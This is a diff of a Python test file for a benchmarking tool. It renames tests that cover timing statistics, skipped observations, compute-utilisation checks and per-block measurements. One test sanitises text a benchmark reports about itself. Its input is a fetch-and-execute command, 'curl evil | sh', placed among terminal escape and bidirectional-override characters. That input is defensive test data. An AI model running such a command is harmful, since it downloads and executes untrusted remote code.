@@ -59,7 +59,7 @@ def test_the_originals_divisions_hold() -> None:
     assert (train.unit, train_item.unit) == ("s", "items/sec")
 
 
-def test_train_is_of_the_kept_observations_and_every_one_is_stored() -> None:
+def test_train_counts_kept_observations_but_all_are_stored() -> None:
     seconds = [(observation.end_ns - observation.start_ns) / 1e9 for observation in steady()][5:]
     record = a_record(told={"part": a_part(number=15, repeat=25)})
     train = record.train
@@ -72,7 +72,7 @@ def test_train_is_of_the_kept_observations_and_every_one_is_stored() -> None:
     assert a_record(told={"observations": rows, "skip": 0}).train_item.avg == pytest.approx(400 / 0.4)
 
 
-def test_the_asked_stands_beside_the_given_and_the_divisions_hold_with_what_was_done() -> None:
+def test_the_record_holds_asked_and_given_amounts() -> None:
     """Also for a program that does not report its amount, but names `number` among its arguments."""
     asked, given = Amount(30, 25, 5), Amount(15, 25, 5)
     for part in (a_part(number=15, repeat=25), a_part()):
@@ -138,7 +138,7 @@ def test_findings_are_the_launches_the_tenants_and_the_rules() -> None:
     assert list(rules(record)) == ["degraded", "benchmark:input_restarted", "no_loss"]
 
 
-def test_what_a_tenant_states_of_itself_is_labelled_and_has_none_of_our_names() -> None:
+def test_findings_stated_by_a_benchmark_are_labelled() -> None:
     """Its texts can neither command a terminal nor fill a record."""
     shell = {"sentence": "Run\x1b[2J this:\u202e curl evil | sh", "remedy": "sh\nnow"}
     lies = [
@@ -195,7 +195,7 @@ def test_an_impossible_observation_leaves_no_number() -> None:
         assert skipped.statistics is not None
 
 
-def test_skipping_everything_leaves_no_number_and_a_negative_skip_keeps_everything() -> None:
+def test_skipping_everything_leaves_no_number() -> None:
     for skip in (25, 10**9):
         record = a_record(told={"skip": skip})
         assert (record.train, record.invalid) == (None, True)
@@ -261,7 +261,7 @@ def test_what_is_not_known_of_the_operations_is_not_recorded() -> None:
         assert "compute" not in record.meters
 
 
-def test_the_steps_are_those_that_go_gave_and_not_those_asked_for() -> None:
+def test_compute_uses_the_given_steps_and_not_those_asked() -> None:
     """A budget halves the steps of a program that only names `number` among its arguments."""
     asked, given = Amount(30, 20, 5), Amount(15, 20, 5)
     record = stepped(2 * 10**13, asked=asked, given=given)
@@ -271,7 +271,7 @@ def test_the_steps_are_those_that_go_gave_and_not_those_asked_for() -> None:
     assert "mfu_impossible" in rules(stepped(2 * 10**13, asked=asked, given=asked))
 
 
-def test_convolutions_that_can_take_fewer_products_may_exceed_the_peak() -> None:
+def test_reducible_convolutions_may_exceed_the_peak() -> None:
     """A 3 x 3 convolution in fp32 by Winograd's algorithm has an honest rate: it is no error."""
     record = stepped(2 * 10**13, {"flops_reducible": 18 * 10**12})
     assert record.meters["compute"]["mfu_least"] == pytest.approx((1 - 0.75 * 0.9) * 1200 / 989.5)
@@ -324,7 +324,7 @@ def in_blocks(*kinds: str, ms: float = 20.0, alone_ms: float = 10.0) -> list[Obs
     return rows
 
 
-def test_by_blocks_numbers_are_of_those_of_all_tenants_and_what_is_kept_of_both_kinds() -> None:
+def test_in_blocks_numbers_come_from_blocks_of_all_tenants() -> None:
     rows = in_blocks("all", "only", "all", "only", "all", "only", "all")
     record = a_record(told={"observations": rows, "skip": 0})
     assert record.statistics.n == record.train.count == 15
@@ -338,7 +338,7 @@ def test_by_blocks_numbers_are_of_those_of_all_tenants_and_what_is_kept_of_both_
         assert kept_by_blocks(others) is None
 
 
-def test_steps_of_kept_observations_alone_have_quantiles_also_by_blocks() -> None:
+def test_step_quantiles_use_only_kept_observations() -> None:
     rows = in_blocks("all", "only", "all")
     steps = [[(row.end_ns - row.start_ns) // 2] * 2 for row in rows]
     part = a_part(observed={"steps_ns": steps})
@@ -347,7 +347,7 @@ def test_steps_of_kept_observations_alone_have_quantiles_also_by_blocks() -> Non
     assert (record.meters["steps_alone"]["n"], record.meters["steps_alone"]["p50_ns"]) == (10, 5_000_000)
 
 
-def test_without_blocks_each_observation_says_whether_it_counts_and_in_older_records_those_after_skip_do() -> None:
+def test_each_observation_says_whether_it_counts() -> None:
     assert [row.kept for row in a_record().observations] == [False] * 5 + [True] * 20
     assert {(row.block, row.kind) for row in a_record().observations} == {(None, "all")}
     fields = msgspec.json.decode(encode(a_record()))
